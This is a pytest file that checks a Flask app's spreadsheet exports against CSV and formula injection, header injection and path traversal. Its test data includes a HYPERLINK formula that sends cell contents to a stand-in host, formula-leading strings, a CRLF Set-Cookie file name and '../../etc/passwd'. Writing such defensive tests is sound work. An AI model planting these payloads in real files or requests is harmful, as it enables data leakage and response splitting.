"""Spreadsheets LearnHub writes never carry a live formula: text is text in .xlsx and guarded by a
leading ' in .csv (OWASP CSV injection), numbers stay numbers, rates are percentages, and every
writer goes through learnhub/exports.py."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest
from flask import Flask

from learnhub.exports import (
    FORMULA_STARTS,
    Percent,
    content_disposition,
    csv_unescape,
    table_response,
    to_csv,
    to_xlsx,
)

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
ROOT = Path(__file__).resolve().parents[1] / "learnhub"


def cells(data: bytes) -> list[openpyxl.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def csv_table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_text_that_looks_like_a_formula_is_text_in_xlsx_everywhere() -> None:
    data = to_xlsx([HOSTILE[0], "Số"], [[name, 7] for name in HOSTILE], title=[f"Danh sách {HOSTILE[0]}", "=A1"])
    written = cells(data)
    assert not [c.coordinate for c in written if c.data_type == "f"]
    texts = {c.value for c in written if isinstance(c.value, str)}
    assert '=HYPERLINK("http://x/?"&A1,"Bấm")' in texts and "=A1" in texts and "@SUM(A1:A9)" in texts
    assert all(c.value == 7 and c.data_type == "n" for c in written if c.column == 2 and c.row > 4)


def test_text_that_looks_like_a_formula_is_quoted_in_csv() -> None:
    table = csv_table(to_csv(["Họ và tên", "Số"], [[name, -5] for name in HOSTILE], title=["=A1"]))
    assert table[0] == ["'=A1"]
    assert [row[0] for row in table[3:]] == ["'" + name for name in HOSTILE]
    assert all(row[1] == "-5" for row in table[3:])  # a negative number is a number, not a formula
    assert not [field for row in table for field in row[:1] if field.startswith(FORMULA_STARTS)]
    assert [csv_unescape(row[0]) for row in table[3:]] == HOSTILE  # and reads back as it was


def test_numbers_dates_and_rates_keep_their_types() -> None:
    row = ["Chi bộ 1", 12, 2.5, Percent(0.975), None, dt.date(2026, 3, 1), "Đạt"]
    written = {c.column: c for c in cells(to_xlsx(["a"] * 7, [row])) if c.row == 2}
    assert (written[2].value, written[2].data_type) == (12, "n")
    assert (written[4].value, written[4].number_format) == (pytest.approx(0.975), "0.0%")
    assert written[6].value == dt.datetime(2026, 3, 1) and written[6].number_format == "DD/MM/YYYY"
    assert written[5].value is None
    assert csv_table(to_csv(["a"] * 7, [row]))[1] == ["Chi bộ 1", "12", "2.5", "0.975", "", "01/03/2026", "Đạt"]


def test_control_characters_do_not_break_the_workbook() -> None:
    written = cells(to_xlsx(["a"], [["Nguyễn\x01 Văn\x0b An"]]))
    assert written[1].value == "Nguyễn Văn An"


def test_csv_names_its_charset_once_and_file_names_are_safe(app: Flask) -> None:
    with app.test_request_context():
        response = table_response("csv", "ke-hoach-1", ["a"], [[1]])
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert response.headers["Content-Disposition"] == 'attachment; filename="ke-hoach-1.csv"'
        xlsx = table_response("xlsx", "Chi bộ \"Khu phố\"\r\nSet-Cookie: a=b", ["a"], [[1]])
    disposition = xlsx.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith('attachment; filename="Chi-bo-Khu-pho-Set-Cookie-a-b.xlsx"; filename*=UTF-8\'\'')
    assert "Chi%20b%E1%BB%99%20%22Khu%20ph%E1%BB%91%22Set-Cookie%3A%20a%3Db.xlsx" in disposition


def test_content_disposition_follows_rfc_6266() -> None:
    assert content_disposition("báo cáo.docx") == (
        "attachment; filename=\"bao-cao.docx\"; filename*=UTF-8''b%C3%A1o%20c%C3%A1o.docx")
    assert content_disposition("../../etc/passwd") == 'attachment; filename="passwd"'
    assert content_disposition("Đảng bộ.csv").startswith('attachment; filename="Dang-bo.csv"')


def test_every_spreadsheet_writer_goes_through_learnhub_exports() -> None:
    """No module but learnhub/exports.py writes CSV or builds a workbook: none can bypass the guard."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\bWriteOnlyCell\(|\.to_csv\(|xlsxwriter")
    found = [f"{path.relative_to(ROOT)}:{n}" for path in ROOT.rglob("*.py") if path.name != "exports.py"
             or path.parent != ROOT for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
             if writers.search(line)]
    assert found == []
